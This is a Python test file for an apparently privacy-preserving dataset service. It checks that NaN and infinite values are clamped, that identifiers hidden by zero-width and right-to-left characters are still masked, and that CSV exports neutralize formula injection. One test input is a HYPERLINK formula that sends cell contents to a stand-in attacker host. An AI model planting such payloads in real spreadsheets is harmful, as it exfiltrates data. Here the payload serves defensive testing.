"""Hostile files that are accepted and must be handled right: NaN and infinities in numeric
columns, identifiers hidden by zero-width characters and right-to-left overrides, and
formula injection in every CSV the service writes (the refusals are in
``tests/test_hostile_files.py``).
"""

import csv
import io
import math
import random
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
from starlette.testclient import TestClient

from anonymizers.invisible import INVISIBLE_CHARACTERS, RIGHT_TO_LEFT_OVERRIDE
from anonymizers.spreadsheet import FORMULA_STARTS
from app.config import Settings
from app.db.session import Database
from app.repositories import datasets as dataset_repo
from app.services.local_files import sanitize_file
from app.storage.read import whole
from tests.company_register import POLICY, ask, csv_bytes, register
from tests.pii_data import register as pii_register
from tests.release_flow import classification, wait_job
from tests.test_hostile_files import assert_still_serving
from tests.uploads import new_dataset, post_file
from tests.world import World, auth

HIDING = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff")
AMOUNTS_POLICY: dict[str, Any] = {
    "name": "amounts",
    "epsilon_total": 100.0,
    "grant_default_epsilon": 1.0,
    "max_query_epsilon": 10.0,
    "min_group_size": 5,
    "columns": {
        "district": {
            "type": "category",
            "public_values": ["天河区", "海珠区"],
            "group_by": True,
            "operator": "keep",
        },
        "amount": {"type": "number", "lower": 0, "upper": 100, "operator": "keep"},
    },
}


def _publish(client: TestClient, world: World, body: bytes, policy: Any = None) -> str:
    dataset_id = new_dataset(client, world.agency, "hostile")
    upload = post_file(client, world.agency, dataset_id, body)
    assert upload.status_code == 201, upload.text
    assert wait_job(client, world.agency, upload.json()["scan_job_id"])["state"] == "succeeded"
    if policy is not None:
        put = client.put(
            f"/v1/datasets/{dataset_id}/policy", json=policy, headers=auth(world.agency)
        )
        assert put.status_code == 200, put.text
    started = client.post(
        f"/v1/datasets/{dataset_id}/publish", json={"version": 1}, headers=auth(world.agency)
    )
    job = wait_job(client, world.agency, started.json()["job_id"])
    assert job["state"] == "succeeded", job
    return dataset_id


def _amounts_csv() -> bytes:
    """200 rows of 10, then NaN, +inf and -inf (as Arrow's CSV reader spells them)."""
    rows = [f"{'天河区' if i % 2 else '海珠区'},10" for i in range(200)]
    rows += ["天河区,nan"] * 4 + ["海珠区,inf"] * 3 + ["天河区,-inf"] * 3
    return ("district,amount\n" + "\n".join(rows) + "\n").encode()


def _grant(client: TestClient, world: World, dataset_id: str, purpose: str) -> None:
    consumer_id = client.get("/v1/me", headers=auth(world.consumer)).json()["principal_id"]
    body = {"dataset_id": dataset_id, "consumer_id": consumer_id, "epsilon": 50.0}
    grant = client.post("/v1/grants", json={**body, "purpose": purpose}, headers=auth(world.admin))
    assert grant.status_code == 201, grant.text


def _stored_amounts(settings: Settings, dataset_id: str) -> list[float]:
    db = Database(settings.sqlalchemy_url)
    with db.reading() as session:
        version = dataset_repo.version(session, dataset_id, 1)
    db.dispose()
    assert version is not None
    values: list[float] = whole([settings.data_dir / p for p in version.parts])[
        "amount"
    ].to_pylist()
    return values


def test_nan_and_infinities_are_stored_as_sent_and_clamped_in_queries(
    client: TestClient, world: World, settings: Settings
) -> None:
    """NaN, +inf and -inf stay IEEE values in quarantine; in queries a NaN is a missing value
    (no sum, bin or quantile takes it; it is still a row) and ±inf are clamped to the policy's
    bounds, so a sum or mean is never NaN or infinite."""
    dataset_id = _publish(client, world, _amounts_csv(), AMOUNTS_POLICY)
    stored = _stored_amounts(settings, dataset_id)
    assert sum(math.isnan(v) for v in stored) == 4
    assert stored.count(math.inf) == 3 and stored.count(-math.inf) == 3
    _grant(client, world, dataset_id, "totals")
    query = {
        "aggregations": [{"fn": "count"}, {"fn": "sum", "column": "amount"}],
        "epsilon": 10.0,
    }
    answer = client.post(
        f"/v1/datasets/{dataset_id}/queries", json=query, headers=auth(world.consumer)
    )
    assert answer.status_code == 200, answer.text
    row = answer.json()["rows"][0]
    assert all(math.isfinite(value) for value in row.values())
    exact_sum = 200 * 10 + 3 * 100 + 3 * 0  # NaN: missing, not the upper bound (+400)
    assert abs(row["sum_amount"] - exact_sum) < 200  # noise scale ≈ 100 / 5 = 20
    assert abs(row["count"] - 210) < 30
    shapes = {
        "aggregations": [
            {"fn": "mean", "column": "amount"},
            {"fn": "quantile", "column": "amount", "q": 0.5},
            {"fn": "histogram", "column": "amount", "bins": [0, 50, 100]},
        ],
        "group_by": ["district"],
        "epsilon": 10.0,
    }
    grouped = client.post(
        f"/v1/datasets/{dataset_id}/queries", json=shapes, headers=auth(world.consumer)
    )
    assert grouped.status_code == 200, grouped.text
    numbers = [v for r in grouped.json()["rows"] for v in _numbers(r)]
    assert numbers and all(math.isfinite(v) for v in numbers), grouped.json()["rows"]
    assert_still_serving(client, world)


def _numbers(value: Any) -> list[float]:
    """Every number inside an answer row (histograms are lists or mappings)."""
    if isinstance(value, bool) or value is None or isinstance(value, str):
        return []
    if isinstance(value, int | float):
        return [float(value)]
    inner = value.values() if isinstance(value, dict) else value
    return [n for item in inner for n in _numbers(item)]


def _hide(value: str, rng: random.Random) -> str:
    """``value`` with an invisible character after every third character."""
    chars = list(value)
    for at in range(len(chars) - 1, 0, -3):
        chars.insert(at, rng.choice(HIDING))
    return "".join(chars)


def _hidden_table(rows: int = 80) -> tuple[pa.Table, set[str]]:
    """Mobiles and resident IDs broken up by zero-width characters, in their own columns
    (named without any hint) and inside notes; reversed mobiles behind an RTL override (they
    display the right way round), in a column and in the notes."""
    source, rng = pii_register(rows), random.Random(5)
    mobiles = [f"1{rng.choice('3589')}{rng.randrange(10**9):09d}" for _ in range(rows)]
    ids = source.column("身份证号").to_pylist()
    notes = [
        f"联系人电话{_hide(m, rng)}，证件{_hide(i, rng)}，"
        f"备用{RIGHT_TO_LEFT_OVERRIDE}{m[::-1]}\u202c。"
        for m, i in zip(mobiles, ids, strict=True)
    ]
    table = pa.table(
        {
            "col_a": [_hide(m, rng) for m in mobiles],
            "col_b": [_hide(i, rng) for i in ids],
            "col_c": [f"{RIGHT_TO_LEFT_OVERRIDE}{m[::-1]}" for m in mobiles],
            "note": notes,
            "district": source.column("district"),
        }
    )
    return table, set(mobiles) | set(ids)


def _published_text(settings: Settings) -> str:
    cells = []
    for path in (settings.data_dir / "published").rglob("*.parquet"):
        table = pq.read_table(path)
        cells += [str(v) for name in table.column_names for v in table.column(name).to_pylist()]
    return "\n".join(cells)


def test_invisible_characters_hide_no_identifier(
    client: TestClient, world: World, settings: Settings
) -> None:
    table, secrets = _hidden_table()
    dataset_id = _publish(client, world, csv_bytes(table))
    report = {
        c["name"]: c for c in classification(client, world.agency, dataset_id).json()["columns"]
    }
    assert report["col_a"]["entity"] == "CN_MOBILE", report["col_a"]
    assert report["col_b"]["entity"] == "CN_RESIDENT_ID", report["col_b"]
    assert report["col_c"]["entity"] == "CN_MOBILE", report["col_c"]
    assert report["note"]["category"] == "free_text", report["note"]
    text = _published_text(settings)
    visible = "".join(char for char in text if char not in INVISIBLE_CHARACTERS)
    for form in (text, visible, visible.replace(RIGHT_TO_LEFT_OVERRIDE, "")):
        leaked = sorted(secret for secret in secrets if secret in form or secret[::-1] in form)
        assert not leaked, leaked[:3]
    assert "<CN_MOBILE>" in text and "<CN_RESIDENT_ID>" in text


def _assert_spreadsheet_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row


def test_audit_exports_neutralize_formulas(client: TestClient, world: World) -> None:
    """The audit event CSV and the audit report CSV: cells a client chose (a request id, a
    purpose) that start like a formula are shown as text."""
    dataset_id = _publish(client, world, _amounts_csv(), AMOUNTS_POLICY)
    purpose = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _grant(client, world, dataset_id, purpose)
    query = {"aggregations": [{"fn": "count"}], "epsilon": 1.0}
    sent = client.post(
        f"/v1/datasets/{dataset_id}/queries",
        json=query,
        headers={**auth(world.consumer), "X-Request-ID": "-cmd-12345678"},
    )
    assert sent.status_code == 200, sent.text
    raw = client.get("/v1/audit/events?format=csv", headers=auth(world.auditor)).text
    events = list(csv.reader(io.StringIO(raw)))
    _assert_spreadsheet_safe(events)
    assert any("'-cmd-12345678" in row for row in events)
    params = {"dataset_id": dataset_id, "format": "csv"}
    report = client.get("/v1/audit/report", params=params, headers=auth(world.auditor)).text
    rows = list(csv.reader(io.StringIO(report)))
    _assert_spreadsheet_safe(rows)
    assert any("'" + purpose in row for row in rows)


def test_extract_csv_header_names_are_neutralized(client: TestClient, world: World) -> None:
    table = register(120).append_column("@cmd", pa.array(["plain"] * 120))
    dataset_id = _publish(client, world, csv_bytes(table), POLICY)
    request = ask(client, world.consumer, dataset_id, outputs=["extract"])
    approve = f"/v1/access-requests/{request['id']}/approve"
    assert client.post(approve, json={}, headers=auth(world.agency)).status_code == 201
    started = client.post(
        f"/v1/datasets/{dataset_id}/extracts", json={"format": "csv"}, headers=auth(world.consumer)
    )
    job = wait_job(client, world.consumer, started.json()["job_id"])
    assert job["state"] == "succeeded", job
    body = client.get(f"/v1/extracts/{started.json()['id']}/download", headers=auth(world.consumer))
    header = next(csv.reader(io.StringIO(body.content.decode())))
    assert "'@cmd" in header
    _assert_spreadsheet_safe([header])


def test_sanitized_csv_of_the_command_line_is_spreadsheet_safe(
    settings: Settings, tmp_path: Any
) -> None:
    source = tmp_path / "in.csv"
    source.write_text("+total,label\n1,=1+1\n2,-2+3\n3,@SUM(A1)\n4,plain\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    sanitize_file(source, out, settings, None)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    _assert_spreadsheet_safe(rows)
    assert rows[0][0] == "'+total" and [r[1] for r in rows[1:4]] == ["'=1+1", "'-2+3", "'@SUM(A1)"]
